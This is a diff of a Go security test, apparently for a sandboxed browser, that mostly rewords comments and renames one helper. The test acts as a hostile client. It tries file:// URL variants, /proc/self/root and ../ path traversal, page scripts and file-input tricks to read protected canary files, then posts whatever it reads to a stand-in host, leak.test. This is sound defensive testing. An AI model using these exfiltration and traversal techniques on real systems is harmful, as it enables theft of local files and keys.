@@ -15,10 +15,10 @@ import (
 	"warren/testnet"
 )
 
-// This file is a client that means harm: it tries every way that it knows to files which are not its own, and the wire is asked what came.
+// A hostile client tries every known way to files that are not its own. Then everything that it received is searched.
 
-// hoard is a machine's files that no client may have, all with the canary's text: of the server, of its keys, of another run and of another
-// profile.
+// hoard is a machine's files that no client may read, all with the canary's text: the server's, its keys, and those of another run and
+// another profile.
 func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
 	t.Helper()
 	dir := tempDir(t)
@@ -41,7 +41,7 @@ func hoard(t *testing.T, c *canary, s *Spec) (files []string) {
 	return files
 }
 
-// half gives every other one: each of two files in turn gets other spellings.
+// half returns every other element, so that two files get different spellings.
 func half(i int, all ...string) (out []string) {
 	for k := i % 2; k < len(all); k += 2 {
 		out = append(out, all[k])
@@ -49,18 +49,18 @@ func half(i int, all ...string) (out []string) {
 	return out
 }
 
-// addresses are spellings of the address of the i-th file.
+// addresses returns spellings of the address of the i-th file.
 func addresses(i int, file string) []string {
 	return half(i, "file://"+file, "FILE://localhost"+file, "file:"+file, "view-source:file://"+file, "file:///proc/self/root"+file,
 		"file://"+strings.ReplaceAll(file, "a", "%61"))
 }
 
-// paths are spellings of its path.
+// paths returns spellings of its path.
 func paths(i int, file string) []string {
 	return half(i, file, "/proc/self/root"+file, "/."+file, "//"+file, strings.Repeat("../", 12)+file, filepath.Dir(file))
 }
 
-// byScript are ways of a page's script to an address, which stands for %q in them.
+// byScript returns ways of a page's script to an address, which stands for %q.
 func byScript() []string {
 	return []string{
 		"location = %q", "location.replace(%q)", "open(%q)", "open(%q, '_blank', 'noopener')", "fetch(%q).then(r => r.text()).then(send)",
@@ -77,7 +77,7 @@ func byScript() []string {
 	}
 }
 
-// scripted is what such a script finds beside it.
+// scripted returns what such a script finds.
 const scripted = `const send = (text) => fetch("http://leak.test/leak", {method: "POST", mode: "no-cors", body: String(text)});
 	const add = (kind, members) => document.body.appendChild(Object.assign(document.createElement(kind), members));`
 
@@ -99,8 +99,8 @@ func opening(s *spy, session, address string) {
 	s.ask("", "Target.sendMessageToTarget", map[string]any{"sessionId": session, "message": wrapped})
 }
 
-// handOver tries the commands that take a path.
-func handOver(s *spy, session, path string) {
+// tryShares tries the commands that take a path.
+func tryShares(s *spy, session, path string) {
 	s.ask(session, "Runtime.evaluate", map[string]any{"expression": scripted + `document.body.innerHTML = "<input type=file multiple>"; ` +
 		`const input = document.querySelector("input");
 		input.onchange = async () => { for (const f of input.files) send(await f.text()) }`})
@@ -129,8 +129,8 @@ func objectID(t *testing.T, m message) string {
 	return r.Result.ObjectID
 }
 
-// TestHostileClient: whatever a client, a page or an extension tries, no byte of what is not its own comes over its socket, in a picture or
-// to its site, with the kernel's help and without. What brings it where neither keeps it away is tried as well.
+// TestHostileClient: whatever a client, a page or an extension tries, no byte of a foreign file comes over its socket, in a picture or to
+// its site. That holds with and without the kernel's help. A control run without any protection proves that the ways work.
 func TestHostileClient(t *testing.T) {
 	inBothModes(t, func(t *testing.T, network string) {
 		p, c := newProfile(t), newCanary(t)
@@ -193,12 +193,12 @@ func (s *spy) tryAll(b *Browser, files []string) (ways int) {
 	return ways + s.tryPaths(b, files)
 }
 
-// tryPaths tries those that take a path.
+// tryPaths tries the ways that take a path.
 func (s *spy) tryPaths(b *Browser, files []string) (ways int) {
 	for i, file := range files {
 		for _, path := range paths(i, file) {
 			tab, session := s.client(b)
-			handOver(s, session, path)
+			tryShares(s, session, path)
 			ways += 6
 			b.closeAndWait(tab)
 		}
@@ -213,7 +213,7 @@ func (s *spy) client(b *Browser) (tab, session string) {
 	return tab, field(s.t, s.ask("", "Target.attachToTarget", map[string]any{"targetId": tab, "flatten": true}).Result, "sessionId")
 }
 
-// unguarded hands every file to a page by the browser's own commands, which nothing looks at.
+// unguarded gives every file to a page by the browser's own commands, which are not checked.
 func (b *Browser) unguarded(t *testing.T, s *spy, files []string) {
 	t.Helper()
 	tab := s.tab(b, "http://a.test/innocent")
